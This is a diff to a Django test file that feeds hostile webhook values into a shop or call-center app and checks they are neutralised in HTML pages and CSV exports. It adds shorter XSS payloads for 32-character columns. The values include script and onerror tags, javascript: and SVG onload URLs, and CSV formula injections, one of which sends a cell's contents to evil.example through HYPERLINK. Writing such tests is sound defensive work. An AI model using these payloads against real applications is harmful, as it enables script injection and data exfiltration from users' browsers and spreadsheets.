@@ -25,6 +25,10 @@ from ..shops.factories import make_shop
 
 SCRIPT = "<script>window.__pwned=1</script>"
 TAG = '"><img src=x onerror=window.__pwned=2>'
+# For columns of 32 characters or fewer (PostgreSQL refuses longer values; SQLite would keep them).
+SHORT_SCRIPT = "<script>__pwned=3</script>"
+SHORT_TAG = '"><b onclick=x>'
+CALLER = '=HYPERLINK("//x.vn","a")'
 JS_URL = "javascript:alert(document.domain)//.wav"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 HOSTILE_URLS = [
@@ -68,7 +72,9 @@ def scheme_of(address: str) -> str:
 def assert_inert_html(url: str, response) -> None:
     assert response.status_code == 200, url
     page = response.content.decode()
-    assert SCRIPT not in page and "<img src=x" not in page, url
+    assert SCRIPT not in page and SHORT_SCRIPT not in page and "<img src=x" not in page and "<b onclick" not in page, (
+        url
+    )
     parsed = Page()
     parsed.feed(page)
     assert parsed.handlers == [], url
@@ -107,10 +113,10 @@ def hostile(db, client):
         "ended_at": now.isoformat(),
         "direction": "in",
         "call_state": "answered",
-        "caller": FORMULAS[0],
-        "callee": SCRIPT,
+        "caller": CALLER,
+        "callee": SHORT_SCRIPT,
         "user_id": FORMULAS[3],
-        "extension_id": TAG,
+        "extension_id": SHORT_TAG,
         "duration": 42,
         "recording_urls": [*HOSTILE_URLS, SAFE_RECORDING],
         "note": TAG,
@@ -124,15 +130,15 @@ def hostile(db, client):
         "cover": "data:image/svg+xml,<svg onload=alert(1)>",
         "webhook_url": "javascript:alert(2)",
         "status": "Z",
-        "current_quality": SCRIPT,
+        "current_quality": "<i>LOW</i>",
         "daily_quota": 100,
         "remaining_quota": 40,
     }
     consent = {
         "id": "550000001",
         "oa_id": "770000001",
-        "phone": FORMULAS[0],
-        "call_type": SCRIPT,
+        "phone": "=1+1",
+        "call_type": "<i>audio</i>",
         "reason_code": FORMULAS[3],
         "reply_status": "P",
         "error_message": TAG,
@@ -148,7 +154,7 @@ def hostile(db, client):
     job = BulkJob.objects.create(kind="consent", oa=OfficialAccount.objects.get(shop=shop), file_name=f"{SCRIPT}.csv")
     for line, value in enumerate(FORMULAS, start=2):
         # eTelecom's refusal, as its answer's `msg` would carry it into a row's error.
-        BulkRow.objects.create(job=job, line=line, phone=value, state=BulkRow.State.FAILED, error=value + SCRIPT)
+        BulkRow.objects.create(job=job, line=line, phone=value[:32], state=BulkRow.State.FAILED, error=value + SCRIPT)
     return shop
 
 
@@ -195,7 +201,7 @@ def test_hostile_webhook_values_are_inert_in_every_csv(hostile, admin_client):
     for url in downloads:
         for row in assert_inert_csv(url, admin_client.get(url)):
             cells.update(row)
-    assert {"'" + FORMULAS[0], "'" + FORMULAS[3], "'" + FORMULAS[2]} <= cells  # the call: caller, user, external id
+    assert {"'" + CALLER, "'" + FORMULAS[3], "'" + FORMULAS[2]} <= cells  # the call: caller, user, external id
     assert "'" + FORMULAS[1] + SCRIPT in cells or any(c.startswith("'" + FORMULAS[1]) for c in cells)  # the OA
     assert {"'" + value + SCRIPT for value in FORMULAS} <= cells  # the bulk upload's errors
 
